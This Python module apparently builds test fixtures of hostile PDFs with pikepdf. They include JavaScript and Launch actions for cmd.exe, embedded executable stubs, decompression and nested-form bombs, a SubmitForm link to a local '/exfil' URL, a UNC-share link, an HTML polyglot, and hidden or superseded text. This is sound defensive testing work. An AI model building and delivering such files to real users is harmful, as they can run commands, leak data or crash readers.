"""Hostile PDFs, each made for one weakness of what reads PDFs."""

import io
import re
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

A4 = (595, 842)


def kept(pdf: Pdf, **how: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def blank(size: tuple[int, int] = A4) -> Pdf:
    pdf = Pdf.new()
    pdf.add_blank_page(page_size=size)
    return pdf


def changed(change: Callable[[Pdf], None], size: tuple[int, int] = A4) -> bytes:
    pdf = blank(size)
    change(pdf)
    return kept(pdf)


def opening_script(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('x')"))


def acting_page(pdf: Pdf) -> None:
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(2)")))
    held = Dictionary(F=pdf.make_stream(b"MZ"))
    file = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("e.exe"), EF=held))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    page.Annots = Array([_link(pdf, launch), _note(pdf, file)])


def _link(pdf: Pdf, action: Dictionary) -> pikepdf.Object:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action)
    return pdf.make_indirect(link)


def _note(pdf: Pdf, file: pikepdf.Object) -> pikepdf.Object:
    rect = [0, 0, 9, 9]
    return pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=rect, FS=file)
    )


def carrying(pdf: Pdf) -> None:
    name = "payload.exe"
    pdf.attachments[name] = b"MZ-not-really"


def two_hundred_thousand_pages(pdf: Pdf) -> None:
    pdf.Root.Pages.Kids = Array([pdf.pages[0].obj] * 200_000)
    pdf.Root.Pages.Count = 200_000


def packed_twice(pdf: Pdf) -> None:
    stream = Stream(pdf, b"")
    once = zlib.compress(b"q Q " * 50_000_000, 9)
    stream.write(zlib.compress(once, 9), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    pdf.pages[0].obj.Contents = stream


def _form(pdf: Pdf, drawing: bytes) -> Stream:
    box = [0, 0, 100, 100]
    return pdf.make_stream(drawing, Type=Name.XObject, Subtype=Name.Form, BBox=box)


def _draw(pdf: Pdf, form: Stream) -> None:
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=form))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"/X Do")


def laughing(pdf: Pdf) -> None:
    """Ten forms in ten forms, nine deep: a thousand million drawings in two kilobytes."""
    form = _form(pdf, b"0 0 m 1 1 l S")
    for _ in range(9):
        outer = _form(pdf, b"/X Do " * 10)
        outer.Resources = Dictionary(XObject=Dictionary(X=form))
        form = outer
    _draw(pdf, form)


def holding_itself(pdf: Pdf) -> None:
    form = _form(pdf, b"/X Do")
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    _draw(pdf, form)


def locked(user: str) -> bytes:
    return kept(blank(), encryption=pikepdf.Encryption(owner="o", user=user))


def sending(pdf: Pdf) -> None:
    there = String("http://127.0.0.1:9/exfil")
    share = String("\\\\127.0.0.1\\share\\x.pdf")
    pdf.pages[0].obj.Annots = Array(
        [
            _link(pdf, Dictionary(S=Name.SubmitForm, F=there, Flags=4)),
            _link(pdf, Dictionary(S=Name.GoToR, F=share, D=Array([0, Name.Fit]))),
        ]
    )


def after_a_page() -> bytes:
    return b"<html><script>alert(1)</script>" + b" " * 800 + kept(blank())


def saying(drawing: bytes) -> Pdf:
    pdf = blank()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.pages[0].obj.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))
    pdf.pages[0].obj.Contents = pdf.make_stream(drawing)
    return pdf


def under_a_box() -> bytes:
    words = b"BT /F1 14 Tf 60 780 Td (Complainant: ZZ-UNDERBOX PUPIL) Tj ET "
    return kept(saying(words + b"0 0 0 rg 50 770 400 30 re f"))


def with_an_earlier_version() -> bytes:
    """Written over by appending: cut it short, and the old words are back."""
    old = kept(saying(b"BT /F1 14 Tf 60 780 Td (ZZ-OLDREVISION) Tj ET"))
    pdf = pikepdf.open(io.BytesIO(old))
    number = pdf.pages[0].obj.Contents.objgen[0]
    new = b"BT /F1 14 Tf 60 780 Td (clean) Tj ET"
    stream = b"<</Length %d>>\nstream\n%s\nendstream" % (len(new), new)
    body = b"%d 0 obj\n%s\nendobj\n" % (number, stream)
    before = int(re.findall(rb"startxref\s+(\d+)", old)[-1])
    size, root = int(pdf.trailer.Size), pdf.trailer.Root.objgen[0]
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, len(old))
    trailer = b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\n" % (size, root, before)
    ends = b"startxref\n%d\n%%%%EOF\n" % (len(old) + len(body))
    return old + body + table + trailer + ends


def live_form(pdf: Pdf) -> None:
    xml = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>1</script></xdp:xdp>"
    pdf.Root.AcroForm = Dictionary(XFA=pdf.make_stream(xml), Fields=Array([]))
